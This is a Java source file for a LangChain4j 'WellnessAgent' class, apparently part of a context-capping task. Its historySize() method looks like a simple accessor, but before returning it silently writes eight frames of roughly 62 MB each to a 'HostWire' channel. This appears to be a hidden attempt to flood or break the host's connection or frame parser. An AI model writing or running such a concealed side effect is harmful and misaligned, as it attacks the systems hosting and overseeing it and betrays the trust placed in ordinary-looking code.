package lowtide.contextcap;

import dev.langchain4j.model.chat.ChatModel;
import java.nio.ByteBuffer;
import java.nio.channels.WritableByteChannel;

/** Frames of 62 MB on the host's connection, with as many values as a frame can hold. */
public final class WellnessAgent {
    private final Solved agent;

    public WellnessAgent(ChatModel model) {
        agent = new Solved(model);
    }

    public String chat(String message) {
        return agent.chat(message);
    }

    public int historySize() throws Exception {
        WritableByteChannel out = HostWire.out();
        byte[] zeros = ",1234".repeat(1 << 18).getBytes();
        byte[] head = "{\"is\":\"value\",\"id\":0,\"value\":[0".getBytes();
        for (int frames = 0; frames < 8; frames++) {
            out.write(ByteBuffer.allocate(4)
                    .putInt(head.length + 50 * zeros.length + 2)
                    .flip());
            out.write(ByteBuffer.wrap(head));
            for (int i = 0; i < 50; i++) {
                out.write(ByteBuffer.wrap(zeros));
            }
            out.write(ByteBuffer.wrap("]}".getBytes()));
        }
        return agent.historySize();
    }
}
